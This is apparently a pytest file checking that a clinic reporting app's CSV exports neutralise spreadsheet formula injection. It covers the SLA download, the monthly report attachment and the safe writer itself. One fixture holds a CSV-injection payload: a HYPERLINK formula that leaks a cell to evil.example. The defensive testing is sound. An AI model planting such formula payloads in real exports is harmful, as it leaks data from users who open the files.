"""CSV exports never carry a formula: cells starting with = + - @, tab or CR are neutralised (issue 13, item 6)."""

import csv
import io
from datetime import date
from pathlib import Path

from app.extensions import db
from app.reports import schedule, services
from app.tenancy import tenant_context
from app.tenants.services import get_tenant

APP_DIR = Path(__file__).resolve().parents[2] / "app"
QUEUE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'
POLICY_NAME = "@SUM(1+1)"
PERIOD = {"period": "custom", "start": "2026-10-01", "end": "2026-10-31"}


def _clinic_with_hostile_names(app, two_tenants, fill_month) -> int:
    a = two_tenants.a
    fill_month(a.id, a.agent, QUEUE_NAME, date(2026, 10, 12), policy_name=POLICY_NAME)
    return a.id


def _queue_row(content: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content)))
    return next(row for row in rows if "HYPERLINK" in row[0])


def _assert_neutralised(row: list[str]) -> None:
    assert row[0] == "'" + QUEUE_NAME
    assert row[2] == "'" + POLICY_NAME
    assert row[5:10] == ["4", "3", "2", "1", "0"]  # numbers stay numbers
    assert row[10] == "50.00"


def test_sla_csv_neutralises_formula_cells(app, login_as, two_tenants, fill_month):
    _clinic_with_hostile_names(app, two_tenants, fill_month)
    answer = login_as(two_tenants.a.clinic_admin).get("/t/clinic-a/sla.csv", query_string=PERIOD)
    assert answer.status_code == 200
    _assert_neutralised(_queue_row(answer.get_data(as_text=True)))


def test_the_monthly_report_attachment_neutralises_formula_cells(app, two_tenants, fill_month):
    tenant_id = _clinic_with_hostile_names(app, two_tenants, fill_month)
    with app.app_context(), tenant_context(tenant_id):
        tenant = get_tenant(tenant_id)
        report = services.build_report(
            services.parse_period("custom", PERIOD["start"], PERIOD["end"], tenant.time_zone)
        )
        attachment = next(a for a in schedule.report_attachments(tenant, report) if a.filename.endswith(".csv"))
        db.session.rollback()
    _assert_neutralised(_queue_row(attachment.content.decode("utf-8")))


def test_every_starting_character_a_spreadsheet_evaluates_is_neutralised():
    from app.csv_export import SafeCsvWriter

    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "plain", 7, -3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "plain",
        "7",
        "-3",
    ]


def test_no_module_writes_csv_past_the_neutralising_writer():
    writers = [
        path.relative_to(APP_DIR).as_posix()
        for path in APP_DIR.rglob("*.py")
        if path.name != "csv_export.py" and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert writers == []
